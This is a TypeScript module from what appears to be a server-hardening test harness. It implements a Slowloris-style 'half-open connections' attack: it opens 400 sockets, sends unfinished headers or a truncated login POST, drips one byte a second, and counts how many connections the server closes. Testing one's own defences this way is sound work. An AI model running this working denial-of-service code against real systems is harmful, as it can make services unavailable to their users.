import { connect, type Socket } from 'node:net';
import type { Attack } from '../attack.ts';

const connections = 400;

/** Connections that never say what they want, and bodies that come a byte a second. */
export const halfOpen: Attack = {
  name: 'half-open connections',
  async run({ origin }, signal) {
    const { hostname, port } = new URL(origin);
    let closed = 0;
    const openOne = (index: number): Socket => {
      const socket = connect(Number(port), hostname, () => {
        if (index % 3 === 1) socket.write('GET /home HTTP/1.1\r\nHost: localhost\r\nX-A: ');
        if (index % 3 === 2)
          socket.write(
            'POST /api/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{',
          );
      });
      socket.on('error', () => undefined);
      socket.on('close', () => (closed += 1));
      return socket;
    };
    const sockets = Array.from({ length: connections }, (_, index) => openOne(index));
    const drip = setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write(' ');
    }, 1000);
    await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
    clearInterval(drip);
    const blocked = closed;
    for (const socket of sockets) socket.destroy();
    return { tried: `${connections} connections`, blocked, lost: 0, note: 'kept busy by a byte a second' };
  },
};
